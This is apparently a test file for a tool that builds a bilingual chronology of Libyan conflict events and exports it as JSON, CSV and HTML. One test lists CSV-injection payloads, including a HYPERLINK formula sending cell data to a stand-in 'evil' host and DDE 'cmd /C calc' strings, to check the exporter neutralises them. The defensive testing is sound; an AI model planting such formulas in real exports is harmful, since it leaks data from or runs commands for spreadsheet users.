"""The chronology: merged, dated, placed in campaigns, rendered and exported — on the seeds and beyond."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from briefgen.cli import cli
from briefgen.commands.build import build, load_corpus
from briefgen.commands.eval_chronology import evaluate, load_gold
from briefgen.config import load_config
from briefgen.memory import ArticleMemory, MemoryEntry, dump_memory, sentence_key
from briefgen.pipeline.split import segment
from briefgen.site.exports import chronology_csv
from briefgen.site.render import headline_text
from briefgen.structure.corpus import Corpus
from tests.htmlcheck import page_file

REPO = Path(__file__).resolve().parents[1]
GOLD = REPO / "tests" / "fixtures" / "gold_chronology.yml"


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    return load_corpus(load_config(REPO / "site_config.yml"), engine=None)


def entries_of(corpus: Corpus, type_: str, place: str) -> list:
    return [e for e in corpus.chronology.entries if e.type == type_ and place in e.places]


def test_capture_of_qawarsha_is_one_entry_dated_17_november_citing_both_reports(corpus: Corpus) -> None:
    november = [e for e in entries_of(corpus, "capture", "qawarsha") if e.date_start.month == 11]
    assert len(november) == 1
    entry = november[0]
    assert entry.date_start.isoformat() == "2016-11-17" and entry.precision == "day"
    assert entry.campaign == "benghazi-2016"
    cited = {r.article.slug for r in entry.reports}
    assert {"2016-11-19-alhayat-qawarsha", "2016-11-23-akhersaa-qawarsha-ganfouda"} <= cited
    assert entry.lead.event.date_text == "ليل الخميس – الجمعة"


def test_tripoli_airport_falls_on_3_june_and_the_capital_on_4_june(corpus: Corpus) -> None:
    (airport,) = [
        e for e in entries_of(corpus, "capture", "tripoli-international-airport") if e.date_start.year == 2020
    ]
    assert (airport.date_start.isoformat(), airport.precision, airport.campaign) == (
        "2020-06-03",
        "day",
        "tripoli-2019-2020",
    )
    assert airport.lead.event.date_text == "أمس الأربعاء"
    borders = [
        e for e in entries_of(corpus, "capture", "tripoli") if e.date_start.isoformat() == "2020-06-04"
    ]
    assert len(borders) == 1 and borders[0].precision == "day"
    assert borders[0].campaign == "tripoli-2019-2020"
    assert "الحدود الإدارية للعاصمة طرابلس" in borders[0].lead.text_ar


def test_the_airport_taken_a_year_before_is_the_second_event_of_the_sentence_that_says_so(
    corpus: Corpus,
) -> None:
    """«… سيطرتها الكاملة عليه أمس الأربعاء، … وذلك بعد عام من سيطرة قوات حفتر عليه»: the
    GNA's capture of 3 June 2020 and, as its own entry, Haftar's of about a year before,
    dated back from it, in the Tripoli campaign."""
    (earlier,) = [
        e for e in entries_of(corpus, "capture", "tripoli-international-airport") if e.date_start.year == 2019
    ]
    assert (earlier.precision, earlier.campaign) == ("approximate", "tripoli-2019-2020")
    assert earlier.date_start <= earlier.date_end <= earlier.date_start.replace(year=2020)
    ((report),) = earlier.reports
    assert report.event.in_sentence == 1 and "بعد عام من سيطرة قوات حفتر" in report.text_ar
    assert "lna" in report.event.actors
    first = [
        e
        for e in entries_of(corpus, "capture", "tripoli-international-airport")
        if any(r.event.sentence == report.event.sentence and r.article is report.article for r in e.reports)
        and e is not earlier
    ]
    assert first and first[0].date_start.isoformat() == "2020-06-03"


def test_july_2016_fighting_in_qawarsha_is_in_the_benghazi_campaign(corpus: Corpus) -> None:
    july = [e for e in corpus.chronology.entries if e.date_start.month == 7 and e.date_start.year == 2016]
    qawarsha = [e for e in july if "qawarsha" in e.places]
    assert qawarsha and all(e.campaign == "benghazi-2016" for e in qawarsha)


def test_events_abroad_are_outside_both_campaigns(corpus: Corpus) -> None:
    for place in ("moscow", "turkey", "cairo"):
        for entry in [e for e in corpus.chronology.entries if place in e.places]:
            assert entry.campaign is None, entry.id


def test_every_entry_cites_existing_sentences(corpus: Corpus) -> None:
    for entry in corpus.chronology.entries:
        for report in entry.reports:
            assert report.text_ar == next(
                s.text for s in report.article.sentences if s.index == report.event.sentence
            )
            assert report.event.date_start <= report.event.date_end


OIL_PORTS = """\
---
title: الجيش يسيطر على موانئ الهلال النفطي
source: Test Wire
published: 2016-09-12
---

سيطرت قوات الجيش الوطني الليبي أمس الأحد على ميناء رأس لانوف النفطي بعد اشتباكات قصيرة.
"""

CASUALTIES_A = """\
---
title: قتلى في اشتباكات قنفودة
source: Wire A
published: 2016-12-10
---

قتل 12 عنصرا في اشتباكات عنيفة في قنفودة أمس الجمعة.
"""

CASUALTIES_B = """\
---
title: حصيلة اشتباكات قنفودة
source: Wire B
published: 2016-12-11
---

أعلن مصدر طبي مقتل 15 عنصرا في اشتباكات قنفودة يوم الجمعة الماضي.
"""


def test_event_outside_both_theatres_lands_outside_both_campaigns(project: Path, write_article) -> None:
    write_article("2016-09-12-oil-ports.md", OIL_PORTS)
    result = build(project / "site_config.yml")
    records = json.loads((result.site_dir / "data" / "chronology.json").read_text(encoding="utf-8"))
    (entry,) = [r for r in records if any(s["article"] == "2016-09-12-oil-ports" for s in r["sources"])]
    assert entry["date_start"] == "2016-09-11" and entry["precision"] == "day"
    assert [p["id"] for p in entry["places"]] == ["ras-lanuf"]
    assert entry["campaign"] is None, (
        "September 2016 is inside Benghazi's dates, but Ras Lanuf is not Benghazi"
    )
    articles = {a["slug"]: a for a in json.loads((result.site_dir / "data" / "articles.json").read_text())}
    assert articles["2016-09-12-oil-ports"]["campaign"] is None
    assert entry["id"] in page_file(result.site_dir, "chronology/").read_text(encoding="utf-8")
    assert entry["id"] not in page_file(result.site_dir, "chronology/benghazi-2016/").read_text(
        encoding="utf-8"
    )


def test_differing_casualty_figures_stay_visible(project: Path, write_article) -> None:
    write_article("2016-12-10-ganfouda-a.md", CASUALTIES_A)
    write_article("2016-12-11-ganfouda-b.md", CASUALTIES_B)
    result = build(project / "site_config.yml")
    records = json.loads((result.site_dir / "data" / "chronology.json").read_text(encoding="utf-8"))
    merged = [
        r
        for r in records
        if {s["article"] for s in r["sources"]} == {"2016-12-10-ganfouda-a", "2016-12-11-ganfouda-b"}
    ]
    assert len(merged) == 1
    entry = merged[0]
    assert entry["date_start"] == "2016-12-09" and entry["type"] == "casualties"
    assert sorted(f["value"] for f in entry["figures"]) == [12, 15] and entry["figures_disagree"]
    page = page_file(result.site_dir, "chronology/benghazi-2016/").read_text(encoding="utf-8")
    # Each source is isolated (<bdi>) from the figures around it.
    assert "Figures differ between reports: 12 (<bdi>Wire A</bdi>) · 15 (<bdi>Wire B</bdi>)" in page


# What a spreadsheet would run as a formula, one per character that starts one (OWASP "CSV Injection").
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def chronology_record(text: str, *, lon: float = 20.07) -> dict[str, Any]:
    """A `chronology.json` record with `text` in every free-text field."""
    place = {"id": "qawarsha", "en": text, "ar": text, "lat": 32.07, "lon": lon}
    return {
        "id": "2016-11-17-capture-qawarsha",
        "date_start": "2016-11-17",
        "date_end": "2016-11-17",
        "precision": "day",
        "origin": "machine",
        "campaign": "benghazi-2016",
        "type": "capture",
        "type_label": "Capture or withdrawal",
        "places": [
            {**place, "admin1": text, "country": text},
            {**place, "id": "benghazi", "admin1": "Benghazi", "country": "Libya"},
        ],
        "actors": [{"id": c, "en": text, "ar": text} for c in "abc"],
        "text_ar": text,
        "text_en": text,
        "figures": [{"value": 12, "article": "2016-11-19-a"}],
        "figures_disagree": False,
        "sources": [{"source": text, "published": "2016-11-19", "url": text}],
    }


def test_chronology_csv_keeps_formulas_as_text_and_numbers_as_numbers() -> None:
    records = [chronology_record(formula, lon=-5.2) for formula in FORMULAS]
    records.append(chronology_record("Forces took Qawarsha = 12 km from -5 @ +1"))
    before = copy.deepcopy(records)
    text = chronology_csv(records)
    assert text.count(",32.07,-5.2,") == len(FORMULAS), (
        "coordinates unquoted, the longitude a negative number"
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert records == before, "the records (and so chronology.json) stay as they are"
    assert len(rows) == len(records)
    text_columns = (
        "actor1",
        "actor2",
        "country",
        "admin1",
        "location",
        "source",
        "notes",
        "other_actors",
        "other_locations",
        "source_urls",
        "notes_ar",
    )
    for formula, row in zip(FORMULAS, rows[: len(FORMULAS)], strict=True):
        # A carriage return is kept as a line break the csv module quotes.
        shown = formula.replace("\r", "\n")
        for column in text_columns:
            assert row[column] == "'" + shown, column
        assert (row["latitude"], row["longitude"], row["fatalities"]) == ("32.07", "-5.2", "12")
        assert (row["event_date"], row["date_end"], row["year"], row["time_precision"]) == (
            "2016-11-17",
            "2016-11-17",
            "2016",
            "1",
        )
        assert (row["event_id"], row["campaign"], row["briefgen_type"]) == (
            "2016-11-17-capture-qawarsha",
            "benghazi-2016",
            "capture",
        )
        assert (row["event_type"], row["sub_event_type"]) == (
            "Battles",
            "Non-state actor overtakes territory",
        )
    plain = rows[-1]
    assert plain["notes"] == plain["actor1"] == "Forces took Qawarsha = 12 km from -5 @ +1"
    assert plain["longitude"] == "20.07"


def test_a_formula_in_an_article_is_text_in_the_csv_and_unchanged_in_the_json(
    project: Path, write_article
) -> None:
    slug = "2016-09-12-oil-ports"
    source = FORMULAS[0]
    english = "@SUM(1+1) Army forces took the oil port of Ras Lanuf."
    write_article(f"{slug}.md", OIL_PORTS.replace("source: Test Wire", f"source: '{source}'"))
    (sentence,) = [s for s in segment(OIL_PORTS.split("---\n", 2)[2]) if s.kind != "heading"]
    memory = ArticleMemory(
        slug, (MemoryEntry(sentence_key(sentence.text), "sentence", sentence.text, english, "reviewed"),)
    )
    (project / "content" / "translations" / f"{slug}.yml").write_text(dump_memory(memory), encoding="utf-8")
    site = build(project / "site_config.yml").site_dir
    records = json.loads((site / "data" / "chronology.json").read_text(encoding="utf-8"))
    (record,) = [r for r in records if any(s["article"] == slug for s in r["sources"])]
    assert (record["text_en"], record["sources"][0]["source"]) == (english, source)
    rows = csv.DictReader(io.StringIO((site / "data" / "chronology.csv").read_text(encoding="utf-8")))
    (row,) = [r for r in rows if r["event_id"] == record["id"]]
    assert row["notes"] == "'" + english
    assert row["source"] == f"'{source}"
    assert float(row["longitude"]) == record["places"][0]["lon"]


def test_exports_follow_their_schemas(seed_site: Path) -> None:
    records = json.loads((seed_site / "data" / "chronology.json").read_text(encoding="utf-8"))
    assert records and [r["date_start"] for r in records] == sorted(r["date_start"] for r in records)
    for record in records:
        assert {
            "id",
            "date_start",
            "date_end",
            "precision",
            "campaign",
            "type",
            "places",
            "actors",
            "text_ar",
            "text_en",
            "sources",
        } <= set(record)
        assert record["date_start"] <= record["date_end"]
        for place in record["places"]:
            assert set(place) == {"id", "en", "ar", "lat", "lon", "admin1", "country"}
        for source in record["sources"]:
            assert {"article", "sentence_index", "source", "url"} <= set(source)
    rows = list(
        csv.DictReader(io.StringIO((seed_site / "data" / "chronology.csv").read_text(encoding="utf-8")))
    )
    assert len(rows) == len(records)
    assert {
        "event_id",
        "event_date",
        "time_precision",
        "event_type",
        "actor1",
        "location",
        "latitude",
        "longitude",
    } <= set(rows[0])
    timeline = json.loads((seed_site / "data" / "timeline.json").read_text(encoding="utf-8"))
    assert len(timeline["events"]) == len(records)
    assert [e["text"]["headline"] for e in timeline["eras"]] == ["Benghazi 2016", "Tripoli 2019–2020"]
    assert {"year", "month", "day"} == set(timeline["events"][0]["start_date"])


def test_chronology_pages_in_both_languages(seed_site: Path) -> None:
    for prefix in ("", "ar/"):
        overall = page_file(seed_site, f"{prefix}chronology/").read_text(encoding="utf-8")
        assert 'id="2016-11-17-capture-qawarsha"' in overall
        for campaign in ("benghazi-2016", "tripoli-2019-2020"):
            assert page_file(seed_site, f"{prefix}chronology/{campaign}/").is_file()
    english = page_file(seed_site, "chronology/tripoli-2019-2020/").read_text(encoding="utf-8")
    entry = english[english.index('data-entry="2020-06-03-capture-tripoli-international-airport"') :]
    entry = entry[: entry.index("</details>")]
    assert '<div class="bg-event" id="2020-06-03-capture-tripoli-international-airport">' in entry
    summary = entry[: entry.index("</summary>")]
    # The row: date, type, place and the English lead, shortened to one line, unlinked.
    assert '<time datetime="2020-06-03">3 June 2020</time>' in summary and "Capture or withdrawal" in summary
    assert "<bdi>Tripoli International Airport</bdi>" in summary
    assert "<bdi>The correspondent toured Tripoli airport" in summary and "<a " not in summary
    # The whole entry: the places and actors linked in its meta line, the sentences plain text
    # (issue 14: nearly every name in them was underlined as a link).
    meta = entry[entry.index('<p class="bg-event-meta">') :]
    meta = meta[: meta.index("</p>")]
    assert 'href="../../entities/tripoli-international-airport/"' in meta
    text = entry[entry.index('<div class="bg-event-text">') :]
    text = text[: text.index("</div>")]
    assert '<p lang="ar" dir="rtl">وتجول المراسل داخل مطار طرابلس' in text
    assert '<p lang="en" dir="ltr">The correspondent toured Tripoli airport' in text
    assert "<a " not in text
    assert 'href="../../articles/2020-06-04-aljazeera-tripoli-borders/#p8"' in entry
    arabic = page_file(seed_site, "ar/chronology/tripoli-2019-2020/").read_text(encoding="utf-8")
    assert "3 يونيو 2020" in arabic and "سيطرة أو انسحاب" in arabic


def test_precision_and_recall_against_the_gold_chronology(corpus: Corpus) -> None:
    result = evaluate(corpus.chronology, load_gold(GOLD))
    print(
        f"\ntyped: P={result.typed.precision:.2f} R={result.typed.recall:.2f}; untyped: P={result.untyped.precision:.2f} R={result.untyped.recall:.2f}"
    )
    # A regression floor, not a target: see the closing notes for the figures.
    assert result.typed.precision >= 0.6 and result.typed.recall >= 0.6
    assert result.untyped.precision >= 0.75 and result.untyped.recall >= 0.75
    assert result.campaign_agreement >= 0.95


def test_eval_chronology_command() -> None:
    result = CliRunner().invoke(
        cli, ["eval-chronology", "--config", str(REPO / "site_config.yml"), "--gold", str(GOLD)]
    )
    assert result.exit_code == 0, result.output
    assert "precision" in result.output and "recall" in result.output


def test_rows_without_english_say_so_neutrally(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Issue 14: the row's headline is in the page's language; where the English is not there
    yet, a neutral note says so (never what an operator should run), in the row, in the opened
    entry and on the campaign overview, while the Arabic page shows the Arabic lead."""
    from tests.variant_site import PENDING, variant_site

    site = variant_site(tmp_path_factory)
    records = json.loads((site / "data" / "chronology.json").read_text(encoding="utf-8"))
    pending = [
        r["id"]
        for r in records
        if r["campaign"] == "tripoli-2019-2020" and r["sources"][0]["article"] == PENDING and not r["text_en"]
    ]
    assert pending, "the variant's pending article has chronology entries"
    english = page_file(site, "chronology/tripoli-2019-2020/").read_text(encoding="utf-8")
    arabic = page_file(site, "ar/chronology/tripoli-2019-2020/").read_text(encoding="utf-8")
    for entry_id in pending:
        row = english[english.index(f'data-entry="{entry_id}"') :]
        row = row[: row.index("</details>")]
        summary = row[: row.index("</summary>")]
        headline = summary[summary.index('<span class="bg-chron-headline">') :]
        assert headline.startswith(
            '<span class="bg-chron-headline"><span class="bg-chron-pending">English translation not yet available</span>'
        )
        assert '<p class="bg-chron-pending">English translation not yet available</p>' in row
        assert '<p lang="ar" dir="rtl">' in row, "the Arabic sentence is there to read"
        row_ar = arabic[arabic.index(f'data-entry="{entry_id}"') :]
        summary_ar = row_ar[: row_ar.index("</summary>")]
        assert "bg-chron-pending" not in summary_ar and re.search(
            "[\u0600-\u06ff]{3}", summary_ar.split("bg-chron-headline")[1]
        )
    for html in (english, page_file(site, "campaigns/tripoli-2019-2020/").read_text(encoding="utf-8")):
        assert "models install" not in html
    overview = page_file(site, "campaigns/tripoli-2019-2020/").read_text(encoding="utf-8")
    overview = overview[overview.index('<ol class="bg-overview">') :]
    overview = overview[: overview.index("</ol>")]
    shown = re.findall(r'chronology/tripoli-2019-2020/#([^"]+)"', overview)
    assert set(shown) & set(pending), "the overview shows an entry of the pending article"
    for entry_id in set(shown) & set(pending):
        item = overview[overview.index(f"#{entry_id}") :]
        item = item[: item.index("</li>")]
        assert '<span class="bg-muted bg-pending-label">English translation not yet available</span>' in item
        assert '<span class="bg-overview-text" lang="ar" dir="rtl">' in item, "the Arabic, marked as such"


@pytest.mark.parametrize(
    ("sentence", "headline"),
    [
        ("For his part, the spokesman confirmed it.", "The spokesman confirmed it."),
        (
            "On the ground, meanwhile, Libyan army forces blew up a truck.",
            "Libyan army forces blew up a truck.",
        ),
        ("In a related development, Lavrov said so.", "Lavrov said so."),
        ("وفي سياق متصل، أعلن المتحدث باسم الجيش", "أعلن المتحدث باسم الجيش"),
        ("Meanwhile", "Meanwhile"),  # a connective alone stays: nothing follows it
        ("The GNA  forces\nsaid so.", "The GNA forces said so."),
    ],
)
def test_a_headline_drops_a_leading_connective(sentence: str, headline: str) -> None:
    assert headline_text(sentence) == headline


def test_a_long_headline_is_cut_at_a_word() -> None:
    sentence = "The correspondent toured Tripoli airport, " * 10
    cut = headline_text(sentence, limit=60)
    assert len(cut) <= 60 and cut.endswith("…") and sentence.startswith(cut[:-1])
    assert cut[:-1] == cut[:-1].rstrip(" ,"), "no dangling comma or space before the ellipsis"
